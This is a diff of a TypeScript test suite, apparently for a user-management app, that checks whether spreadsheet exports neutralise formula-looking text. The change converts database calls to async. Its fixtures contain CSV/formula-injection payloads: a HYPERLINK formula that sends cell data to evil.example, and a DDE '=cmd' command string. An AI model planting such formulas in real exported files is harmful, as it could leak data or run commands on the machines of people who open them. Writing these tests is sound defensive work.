@@ -11,6 +11,7 @@ import { guardCell, unguardCell } from '../lib/formula-guard';
 import { makeTestApp, type TestApp } from '../test/harness';
 import { insertUser } from '../users/fixture';
 import { users } from '../db/tables/users';
+import { allRows, runQuery } from '../db/engine';
 
 let t: TestApp;
 let org: number;
@@ -18,10 +19,10 @@ const EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")';
 
 beforeAll(async () => {
   t = await makeTestApp();
-  org = t.createOrg('chi_doan', 'FG-CD', null, '=cmd|" /C calc"!A0');
-  insertUser(t, { code: 'FG001', familyName: EVIL, givenName: '+An', email: 'fg001@sv.vn', phone: '0901234567' }, org);
-  insertUser(t, { code: 'FG002', familyName: '@SUM(1+1)', givenName: '-Bình', email: 'fg002@sv.vn', phone: null }, org);
-  insertUser(t, { code: 'FG003', familyName: '\tTab', givenName: 'Chi', email: 'fg003@sv.vn', phone: null }, org);
+  org = await t.createOrg('chi_doan', 'FG-CD', null, '=cmd|" /C calc"!A0');
+  await insertUser(t, { code: 'FG001', familyName: EVIL, givenName: '+An', email: 'fg001@sv.vn', phone: '0901234567' }, org);
+  await insertUser(t, { code: 'FG002', familyName: '@SUM(1+1)', givenName: '-Bình', email: 'fg002@sv.vn', phone: null }, org);
+  await insertUser(t, { code: 'FG003', familyName: '\tTab', givenName: 'Chi', email: 'fg003@sv.vn', phone: null }, org);
 });
 
 async function firstSheet(buf: Uint8Array) {
@@ -113,8 +114,8 @@ describe('formula-looking text in exports', () => {
 
   it('an exported file round-trips: re-imported with updateExisting, it changes nothing', async () => {
     // FG003's leading tab was written behind the API's back: the forms' and import's text rule trims it, so it is left out.
-    t.db.delete(users).where(eq(users.code, 'FG003')).run();
-    const before = t.db.select().from(users).orderBy(asc(users.id)).all();
+    await runQuery(t.db.delete(users).where(eq(users.code, 'FG003')));
+    const before = await allRows(t.db.select().from(users).orderBy(asc(users.id)));
     const exp = await download(t, 'POST', '/api/export/users', t.adminToken, {
       fields: ['code', 'familyName', 'givenName', 'email', 'phone'],
     });
@@ -125,6 +126,6 @@ describe('formula-looking text in exports', () => {
       body: { options: { updateExisting: true } },
     });
     expect(ex.body, JSON.stringify(ex.body)).toMatchObject({ importedCount: 0, failedCount: 0 });
-    expect(t.db.select().from(users).orderBy(asc(users.id)).all()).toEqual(before);
+    expect(await allRows(t.db.select().from(users).orderBy(asc(users.id)))).toEqual(before);
   });
 });
